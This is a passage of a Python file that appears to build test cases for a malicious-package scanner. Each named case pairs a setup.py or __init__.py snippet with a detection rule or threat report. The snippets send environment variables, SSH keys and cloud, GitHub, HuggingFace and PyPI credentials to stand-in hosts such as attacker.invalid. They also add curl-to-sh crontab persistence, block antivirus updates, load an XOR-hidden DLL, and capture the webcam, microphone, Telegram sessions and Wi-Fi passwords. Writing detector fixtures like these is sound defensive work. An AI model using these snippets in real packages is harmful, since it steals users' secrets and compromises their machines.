        GUARDDOG.format(rule="shady-links.yml"),
    ),
    "env-mailed-over-smtp": (
        setup(
            "import os, smtplib\n"
            "s = smtplib.SMTP('smtp.gmail.com', 587); s.starttls(); s.login('a@gmail.com', 'pw')\n"
            "s.sendmail('a@gmail.com', 'a@gmail.com', str(dict(os.environ)))\n"
        ),
        GUARDDOG.format(rule="exfiltrate-sensitive-data.yml"),
    ),
    "ssh-key-sent-over-ftp": (
        init(
            "import ftplib, os\n"
            "f = ftplib.FTP('198.51.100.7', 'anonymous', 'x')\n"
            "f.storbinary('STOR k', open(os.path.expanduser('~/.ssh/id_rsa'), 'rb'))\n"
        ),
        GUARDDOG.format(rule="threat-network-exfiltration.yar"),
    ),
    "secrets-into-a-gist": (
        init(
            "import os, requests\n"
            "c = open(os.path.expanduser('~/.aws/credentials')).read()\n"
            "requests.post('https://api.github.com/gists', json={'public': False, 'files': {'a.txt': {'content': c}}}, headers={'Authorization': 'token ghp_' + 'x' * 36})\n"
        ),
        "https://checkmarx.com/blog/how-checkmarx-defends-against-the-shai-hulud-second-coming-malicious-package-campaign (npm; its GitHub exfiltration, in Python)",
    ),
    "env-to-slack-webhook": (
        init(
            "import os, requests\n"
            "requests.post('https://hooks.slack.com/services/T000/B000/XXXXXXXX', json={'text': str(dict(os.environ))})\n"
        ),
        GUARDDOG.format(rule="threat-network-exfil-messenger.yar"),
    ),
    "env-to-firebase": (
        init(
            "import os, requests\n"
            "requests.put('https://loot-1.firebaseio.com/e.json', json=dict(os.environ))\n"
        ),
        "zebo (Fortinet, 2024)" + UNREAD,
    ),
    "whole-env-sent-when-class-made": (
        init(
            "import base64, json, os, requests\n"
            "class Ctx(dict):\n"
            "    def __init__(self, **kw):\n"
            "        super().__init__(**kw)\n"
            "        e = base64.b64encode(json.dumps(dict(os.environ)).encode()).decode()\n"
            "        requests.get('https://anti-theft-web.herokuapp.com/hacked/' + e)\n"
        ),
        CTX,
    ),
    "second-stage-pip-install-in-setup": (
        setup(
            "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', 'colorama-helper-x'])\n"
        ),
        SANS + " (pip install of a stage)",
    ),
    "crontab-curl-persistence": (
        init(
            "import os\nos.system(\"(crontab -l; echo '*/5 * * * * curl -s https://attacker.invalid/c | sh') | crontab -\")\n"
        ),
        GUARDDOG.format(rule="threat-process-schedule.yar"),
    ),
    "hosts-file-blocks-av-updates": (
        init(
            "with open(r'C:\\Windows\\System32\\drivers\\etc\\hosts', 'a') as f:\n"
            "    f.write('\\n0.0.0.0 update.avast.com\\n0.0.0.0 liveupdate.symantec.com\\n')\n"
        ),
        CHECKPOINT + " (defence evasion)",
    ),
}
SHAPES.update(MORE)

LAZARUS = "http://www.independentitconsultant.com/lazarus-group-strikes-through-malicious-pypi-packages-warns-japans-computer-security-incident-response-team/"
EXPORTWIFI = "https://secure.software/pypi/packages/exportwifi (ReversingLabs)"


def _send_file(path: str) -> dict[str, str]:
    return init(
        "import os, requests\n"
        f"p = os.path.expanduser({path!r})\n"
        "requests.post('https://attacker.invalid/k', data=open(p).read())\n"
    )


THIRD: dict[str, tuple[dict[str, str], str]] = {
    "xor-dll-from-package-file-loaded": (
        {
            "evpkg/__init__.py": (
                "import ctypes, os, tempfile\n"
                "raw = open(os.path.join(os.path.dirname(__file__), 'test.py'), 'rb').read()\n"
                "dll = bytes(b ^ 0x4D for b in raw[512:])\n"
                "p = os.path.join(tempfile.gettempdir(), 'IconCache.db.dll')\n"
                "open(p, 'wb').write(dll)\n"
                "ctypes.WinDLL(p)\n"
            ),
            "evpkg/test.py": "# test\n",
        },
        LAZARUS + UNREAD,
    ),
    "webcam-frame-sent": (
        init(
            "import cv2, requests\n"
            "ok, frame = cv2.VideoCapture(0).read()\n"
            "requests.post('https://attacker.invalid/w', data=cv2.imencode('.jpg', frame)[1].tobytes())\n"
        ),
        GUARDDOG.format(rule="threat-runtime-collection.yar"),
    ),
    "microphone-recorded-and-sent": (
        init(
            "import requests, sounddevice as sd\n"
            "rec = sd.rec(5 * 44100, samplerate=44100, channels=1); sd.wait()\n"
            "requests.post('https://attacker.invalid/a', data=rec.tobytes())\n"
        ),
        GUARDDOG.format(rule="threat-runtime-collection.yar"),
    ),
    "telegram-desktop-tdata-zipped-and-sent": (
        init(
            "import os, shutil, requests\n"
            "src = os.path.join(os.getenv('APPDATA'), 'Telegram Desktop', 'tdata')\n"
            "z = shutil.make_archive(os.path.join(os.getenv('TEMP'), 't'), 'zip', src)\n"
            "requests.post('https://attacker.invalid/t', files={'f': open(z, 'rb')})\n"
        ),
        PHYLUM + " (W4SP steals Telegram sessions)",
    ),
    "filezilla-sitemanager-sent": (
        init(
            "import os, requests\n"
            "p = os.path.join(os.getenv('APPDATA'), 'FileZilla', 'sitemanager.xml')\n"
            "requests.post('https://attacker.invalid/f', data=open(p).read())\n"
        ),
        PHYLUM + " (stealer targets)",
    ),
    "wifi-passwords-netsh-sent": (
        init(
            "import subprocess, requests\n"
            "out = subprocess.check_output('netsh wlan show profile name=* key=clear', shell=True)\n"
            "requests.post('https://attacker.invalid/w', data=out)\n"
        ),
        EXPORTWIFI,
    ),
    "dotenv-files-globbed-and-sent": (
        init(
            "import glob, requests\n"
            "for p in glob.glob('**/.env', recursive=True):\n"
            "    requests.post('https://attacker.invalid/e', data=open(p).read())\n"
        ),
        LITELLM + " (API keys harvested)",
    ),
    "huggingface-token-sent": (
        _send_file("~/.cache/huggingface/token"),
        LITELLM + " (AI/ML tokens)",
    ),
    "kaggle-json-sent": (_send_file("~/.kaggle/kaggle.json"), LITELLM + " (AI/ML tokens)"),
    "gh-cli-hosts-sent": (_send_file("~/.config/gh/hosts.yml"), LITELLM + " (CI/CD tokens)"),
    "databrickscfg-sent": (_send_file("~/.databrickscfg"), LITELLM + " (cloud credentials)"),
    "pypirc-sent": (
        _send_file("~/.pypirc"),
        "https://clankernews.sh/item?id=5190 (stolen PyPI token, telnyx)",
    ),
}
SHAPES.update(THIRD)
